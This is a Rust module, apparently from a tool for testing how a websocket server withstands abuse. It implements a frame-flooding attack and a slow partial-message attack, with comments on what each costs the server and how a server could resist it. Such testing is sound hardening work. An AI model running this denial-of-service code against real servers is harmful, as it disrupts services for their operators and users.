//! Attacks with frames that are no commands.

use std::rc::Rc;
use std::time::Duration;

use encke_client::transport::websocket::{Opcode, write_fragment, write_frame};
use tokio::time::{interval, timeout};

use super::Attacker;
use crate::args::FrameKind;

const CHUNK_BYTES: usize = 16 * 1024;
const HELD_BYTES: usize = 60 * 1024;
const FRAGMENT_BYTES: usize = 1024;
const BYTE_EVERY: Duration = Duration::from_secs(1);
/// Head of a final text frame of 65,536 bytes, masked with zeros.
const HEAD: [u8; 14] = [0x81, 0xFF, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0];

/// Floods the server with frames that are cheap to send: acknowledgements, pongs, pings, and empty fragments
/// of a message that never ends, as fast as each socket accepts them.
///
/// The attack costs 6 bytes per frame (23 for an acknowledgement). The frames are not commands, so a limit on
/// commands does not apply. A server should limit the number of frames that it reads from a connection per
/// second, without closing the connection, because a client may have legitimate reasons for sending them. The
/// server should serve other connections after a few frames, no matter how many have arrived.
pub(super) async fn frames(attacker: Rc<Attacker>, index: u32) {
    let parameters = &attacker.parameters;
    let kind = parameters.options.kind.unwrap_or_else(|| FrameKind::rotating(index, parameters.dial.target));
    let (mut first, mut frames, mut count) = (Vec::new(), Vec::new(), 0);
    if kind == FrameKind::Fragments {
        write_fragment(&mut first, Opcode::Text, &[]);
    }
    while frames.len() < CHUNK_BYTES {
        match kind {
            FrameKind::Acks => write_frame(&mut frames, Opcode::Text, br#"{"ack":{"seq":0}}"#),
            FrameKind::Pongs => write_frame(&mut frames, Opcode::Pong, &[]),
            FrameKind::Pings => write_frame(&mut frames, Opcode::Ping, &[]),
            FrameKind::Fragments => write_fragment(&mut frames, Opcode::Continuation, &[]),
        }
        count += 1;
    }
    loop {
        let Some(mut session) = attacker.open(None).await else { continue };
        attacker.queue(&mut session, &first);
        attacker.flood(&mut session, &frames, count).await;
    }
}

/// Keeps a partial message pending on each connection. Every other connection announces 64 KiB and sends 60
/// KiB of them; the others send small fragments, and then one byte per second.
///
/// The attack costs one byte for each byte that the server holds. The server should not need more memory for
/// a partial message than the bytes it has received, and should limit the total size of partial messages.
pub(super) async fn fragments(attacker: Rc<Attacker>, index: u32) {
    let mut byte = Vec::new();
    write_fragment(&mut byte, Opcode::Continuation, b"x");
    loop {
        let Some(mut session) = attacker.open(None).await else { continue };
        if index.is_multiple_of(2) {
            attacker.queue(&mut session, &[&HEAD[..], &b"x".repeat(HELD_BYTES)].concat());
            attacker.read_to_end(&mut session).await;
            continue;
        }
        let (mut frames, piece) = (Vec::new(), b"x".repeat(FRAGMENT_BYTES));
        write_fragment(&mut frames, Opcode::Text, &piece);
        for _ in 1..HELD_BYTES / FRAGMENT_BYTES {
            write_fragment(&mut frames, Opcode::Continuation, &piece);
        }
        attacker.queue(&mut session, &frames);
        drop(frames);
        let mut next = interval(BYTE_EVERY);
        loop {
            next.tick().await;
            attacker.queue(&mut session, &byte);
            if timeout(BYTE_EVERY, attacker.read_to_end(&mut session)).await.is_ok() {
                break;
            }
        }
    }
}
